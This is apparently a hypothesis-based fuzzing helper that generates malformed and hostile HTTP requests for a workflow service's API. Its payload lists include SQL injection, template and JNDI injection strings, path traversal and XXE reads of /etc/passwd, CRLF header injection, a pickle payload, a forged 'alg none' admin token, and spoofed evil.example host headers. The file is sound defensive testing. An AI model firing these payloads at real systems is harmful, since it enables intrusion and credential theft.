"""Requests that nobody means well: made from the tables of operations, sent as the bytes of a socket would arrive."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, unquote

from hypothesis import strategies as st

from tradewind.api import experimental, ui_operations
from tradewind.api.dialects import with_older_dialects
from tradewind.api.operations import ALL
from tradewind.api.table import Operation

OPERATIONS: tuple[tuple[str, Operation], ...] = (
    *(("/api/v1", operation) for operation in with_older_dialects(ALL)),
    *((experimental.PREFIX, operation) for operation in experimental.OPERATIONS),
    *((ui_operations.PREFIX, operation) for operation in ui_operations.UI),
)
"""Every operation there is, with the prefix that it is served below."""

KNOWN = {
    "dag_id": "etl",
    "dag_run_id": "one",
    "run_id": "one",
    "task_id": "extract",
    "map_index": "0",
    "task_try_number": "1",
    "xcom_key": "return_value",
    "pool_name": "p",
    "name": "p",
    "variable_key": "k",
    "connection_id": "c",
    "role_name": "Viewer",
    "username": "viewer",
    "uri": "s3://bucket/key",
    "execution_date": "2024-01-01T00:00:00+00:00",
    "event_log_id": "1",
    "import_error_id": "1",
    "file_token": "x",
}
"""What the paths name in a furnished server."""

TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "'; DROP TABLE dag; --",
    "\" OR ''='",
    "1) UNION SELECT password FROM ab_user --",
    "%",
    "_",
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}",
    "${jndi:ldap://example.com/x}",
    "%s%n%(x)s{0.__class__}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "file:///etc/passwd",
    "\r\nset-cookie: a=b",
    "\ufffe\uffff\u202e\u0085",
    "\U0001f4a9" * 20,
    "e\u0301" * 200,
    "x" * 300,
    "x" * 5000,
    "~",
    "-",
    "None",
    "NaN",
    "-Infinity",
    "1e999",
    "-1",
    "0",
    "2147483648",
    "-9223372036854775809",
    "18446744073709551616",
    "9" * 400,
    "\uff11\u0662",
    "1_0",
    "0x10",
    "true",
    "[]",
    "{}",
    ",",
    ",,,",
    "-----dag_id",
    "dag_id,,dag_id",
    "2024-01-01T00:00:00Z",
    "2024-02-30T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-12:00",
    "2024-01-01T00:00:00+99:99",
    "2024-01-01",
    "running",
    "none",
)
SURROGATE = "\ud800x"
"""Half of a character: a JSON document can spell it, UTF-8 cannot."""
NUMBERS = (0, -1, 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63, 2**64, -(2**70), 10**400, 0.5, -0.0, 1e308, 1e-320)


def nested(depth: int, opening: str = '{"a":', closing: str = "}") -> str:
    """JSON of that many levels."""
    return opening * depth + "1" + closing * depth


RAW_BODIES: tuple[bytes, ...] = (
    b"",
    b" ",
    b"null",
    b"[]",
    b"{}",
    b"0",
    b'"text"',
    b"{",
    b"{]",
    b"NaN",
    b'{"a": NaN, "b": -Infinity}',
    b'{"a": 1e999999}',
    b'{"a": ' + b"9" * 5000 + b"}",
    b'{"a": 1, "a": 2}',
    b'{"dag_run_id": "x", "dag_run_id": 1, "conf": {}, "conf": 3}',
    b"\xff\xfe\x00",
    b"\xef\xbb\xbf{}",
    b'{"a": "\xc0\xaf\xc0\xae"}',
    b'{"\xed\xa0\x80": 1}',
    b'{"a": "\\ud800"}',
    b'{"\\u0000": "\\u0000"}',
    b'{"a": "\x00"}',
    nested(200).encode(),
    nested(900).encode(),
    nested(990, "[", "]").encode(),
    nested(100_000).encode(),
    nested(100_000, "[", "]").encode(),
    b"[" * 100_000,
    b'{"__proto__": {"x": 1}, "constructor": null}',
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    b"a=b&c=%00",
    b"--b\r\ncontent-disposition: form-data; name=x\r\n\r\n1\r\n--b--",
    b"\x80\x04K\x01.",
    b'{"x": "' + b"y" * 300_000 + b'"}',
)
CONTENT_TYPES = (
    b"application/json",
    b"application/json; charset=utf-16",
    b"APPLICATION/JSON;;;=",
    b"application/merge-patch+json",
    b"text/plain",
    b"application/x-www-form-urlencoded",
    b"multipart/form-data",
    b"application/xml",
    b"\xff\xfe",
    b"",
    b"json" * 500,
)
HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"accept", b"image/png"),
    (b"accept", b";q=,*/*;;q=x"),
    (b"accept", b"text/plain"),
    (b"accept-language", b"\xff" * 50),
    (b"cookie", b"session=\xff\x00x; ;;=;session="),
    (b"cookie", b"session=" + b"A" * 3000),
    (b"x-request-id", b"x" * 3000),
    (b"x-request-id", b"a\xffb"),
    (b"x-forwarded-for", b"1.2.3.4, \xff"),
    (b"x-forwarded-host", b"evil.example"),
    (b"x-forwarded-prefix", b"//evil.example"),
    (b"host", b"evil.example/\xff"),
    (b"origin", b"null"),
    (b"range", b"bytes=9999999999-"),
    (b"if-none-match", b"*"),
    (b"idempotency-key", b"\xff\xfe"),
    (b"idempotency-key", b""),
    (b"idempotency-key", b"k" * 300),
    (b"last-event-id", b"9" * 400),
    (b"last-event-id", b"-1"),
    (b"x-http-method-override", b"DELETE"),
    (b"content-length", b"-5"),
    (b"transfer-encoding", b"chunked"),
)
AUTHORIZATIONS = (
    b"Basic",
    b"Basic \xff\xff",
    b"Basic " + b"A" * 5000,
    b"Basic AAAA",
    b"Basic bWFsbG9yeToA",
    b"Bearer",
    b"Bearer " + b"." * 2000,
    b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
    b"Negotiate YII=",
    b'Digest username="admin", realm="x\'--"',
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request as it arrives: the target still encoded, the body in the parts in which it comes."""

    method: str
    target: str
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes
    is_cut: bool = False
    """The client goes away before the body's end."""

    def scope(self) -> dict[str, Any]:
        """What uvicorn makes of it."""
        path, _, query = self.target.partition("?")
        return {
            "type": "http",
            "method": self.method,
            "path": unquote(path),
            "raw_path": path.encode(),
            "query_string": query.encode("latin-1"),
            "headers": list(self.headers),
            "client": ("127.0.0.1", 1),
            "scheme": "http",
            "root_path": "",
        }

    def messages(self) -> list[dict[str, Any]]:
        """What the application receives."""
        body = {"type": "http.request", "body": self.body, "more_body": self.is_cut}
        return [body, {"type": "http.disconnect"}]


_TEXT = st.one_of(st.sampled_from(TEXTS), st.text(max_size=20))
_JSON = st.one_of(
    st.sampled_from(TEXTS),
    st.just(SURROGATE),
    st.sampled_from(NUMBERS),
    st.sampled_from([True, None, [], {}, [None], {"": ""}, [[]], [{}], [1] * 2000, json.loads(nested(300))]),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=5),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
        max_leaves=5,
    ),
)


def requests(prefix: str, operation: Operation, authorization: bytes) -> st.SearchStrategy[Hostile]:
    """Requests of one operation: each of path, query, body and headers is well meant at times, and at times not."""
    return st.builds(
        Hostile,
        method=st.just(operation.method),
        target=st.builds(lambda path, query: f"{prefix}{path}?{query}", _path(operation.path), _query(operation)),
        headers=_headers(authorization),
        body=_body(operation),
        is_cut=st.sampled_from([False] * 19 + [True]),
    )


def odd_requests(prefix: str, operation: Operation, authorization: bytes) -> Iterator[Hostile]:
    """Each parameter with each odd text, and each odd body with each odd content type, on a path that exists."""
    path = prefix + re.sub(r"\{(\w+)[^}]*\}", lambda part: quote(KNOWN.get(part[1], "1"), safe=""), operation.path)
    who = (b"authorization", authorization)
    for parameter in operation.query:
        for text in TEXTS:
            yield Hostile(operation.method, f"{path}?{parameter.name}={quote(text, safe='')}", (who,), b"")
    if operation.body is None and not operation.takes_raw:
        return
    for place, body in enumerate(RAW_BODIES):
        for kind in (CONTENT_TYPES[0], CONTENT_TYPES[place % len(CONTENT_TYPES)]):
            headers = (who, (b"content-type", kind), (b"content-length", b"1"))
            yield Hostile(operation.method, path, headers, body)


def _path(template: str) -> st.SearchStrategy[str]:
    parts = template.replace("}", "{").split("{")
    made: list[st.SearchStrategy[str]] = []
    for place, part in enumerate(parts):
        if place % 2 == 0:
            made.append(st.just(part))
            continue
        known = KNOWN.get(part.partition(":")[0], "1")
        made.append(st.one_of(st.just(quote(known, safe="")), st.just(quote(known, safe="")), _segment()))
    return st.tuples(*made).map("".join)


def _segment() -> st.SearchStrategy[str]:
    tricks = (
        "//%0d%0aset-cookie:%20a=b",
        "%2e%2e%2f",
        "..%2f..%2f",
        "%00",
        "a%00",
        "%c0%ae%c0%ae",
        "%ff%fe",
        "%ed%a0%80",
        "%",
        "%zz",
        "//",
        ";x",
    )
    return st.one_of(st.sampled_from(tricks), _TEXT.map(lambda text: quote(text, safe="", errors="replace")))


def _query(operation: Operation) -> st.SearchStrategy[str]:
    names = [parameter.name for parameter in operation.query] or ["x"]
    name = st.one_of(st.sampled_from(names), st.sampled_from(names), st.sampled_from(names), _TEXT)
    pair = st.builds(
        lambda name, text: f"{quote(name, safe='', errors='replace')}={quote(text, safe='', errors='replace')}",
        name,
        _TEXT,
    )
    odd = st.sampled_from(["", "&&&", "=", "limit", "%", "limit=%ff", "order_by=%00", "limit=1&limit=-1", "\xff=\xfe"])
    return st.one_of(odd, st.lists(pair, max_size=3).map("&".join), pair)


def _headers(authorization: bytes) -> st.SearchStrategy[tuple[tuple[bytes, bytes], ...]]:
    admin = st.just(authorization)
    who = st.one_of(admin, admin, admin, admin, admin, st.sampled_from(AUTHORIZATIONS))
    kind = st.one_of(st.just(CONTENT_TYPES[0]), st.just(CONTENT_TYPES[0]), st.sampled_from(CONTENT_TYPES))
    more = st.one_of(st.just(()), st.lists(st.sampled_from(HEADERS), max_size=3).map(tuple))
    return st.builds(
        lambda who, kind, more: (
            (b"content-length", b"1"),
            (b"authorization", who),
            (b"content-type", kind),
            *more,
        ),
        who,
        kind,
        more,
    )


def _body(operation: Operation) -> st.SearchStrategy[bytes]:
    fields = _fields_of(operation.body or {})
    shaped = st.fixed_dictionaries({}, optional={name: st.one_of(good, good, _JSON) for name, good in fields.items()})
    made = st.one_of(shaped, shaped, shaped, _JSON).map(lambda value: json.dumps(value).encode())
    return st.one_of(made, made, made, st.sampled_from(RAW_BODIES))


def _fields_of(schema: Mapping[str, Any]) -> dict[str, st.SearchStrategy[Any]]:
    found: dict[str, st.SearchStrategy[Any]] = {}
    for part in schema.get("allOf", ()):
        found.update(_fields_of(part))
    for name, inner in schema.get("properties", {}).items():
        found[name] = _good(name, inner)
    if not found:
        found = {name: st.just(value) for name, value in KNOWN.items()}
        found |= {"conf": st.just({}), "slots": st.just(1), "description": st.just("x")}
    return found


def _good(name: str, schema: Mapping[str, Any]) -> st.SearchStrategy[Any]:
    if "enum" in schema:
        return st.sampled_from(list(schema["enum"]))
    match schema.get("type"):
        case "integer" | "number":
            return st.sampled_from([1, 2, 100])
        case "boolean":
            return st.booleans()
        case "array":
            return st.lists(_good(name.rstrip("s"), schema.get("items", {})), max_size=2)
        case "object" if "properties" in schema:
            return st.fixed_dictionaries({}, optional=_fields_of(schema))
        case "object":
            return st.just({"a": 1})
    if schema.get("format") == "date-time":
        return st.sampled_from(["2024-01-01T00:00:00Z", "2030-01-01T00:00:00+02:00"])
    return st.sampled_from([KNOWN.get(name, "x"), "new"])
